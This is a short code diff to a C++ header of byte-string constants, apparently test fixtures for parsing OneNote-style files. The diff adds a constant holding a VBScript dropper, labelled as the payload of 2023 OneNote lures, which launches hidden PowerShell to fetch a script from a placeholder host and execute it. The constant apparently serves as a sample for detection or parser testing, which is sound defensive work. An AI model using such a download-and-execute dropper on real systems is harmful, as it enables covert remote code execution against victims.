@@ -19,6 +19,11 @@ inline const std::string kHeader("\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x
 inline const std::string kFooter("\x22\xA7\xFB\x71\x79\x0F\x0B\x4A\xBB\x13\x89\x92\x56\x42\x6B\x24",
                                  16);
 
+/// A VBScript dropper, the payload of the 2023 OneNote lures.
+inline const std::string kScript =
+    "Set shell = CreateObject(\"WScript.Shell\")\r\n"
+    "shell.Run \"powershell -w hidden -c iwr https://cdn.example/a.ps1 | iex\", 0\r\n";
+
 inline std::string le(std::uint64_t v, int bytes) {
   std::string s(static_cast<std::size_t>(bytes), '\0');
   for (int i = 0; i < bytes; ++i) s[static_cast<std::size_t>(i)] = static_cast<char>(v >> (8 * i));
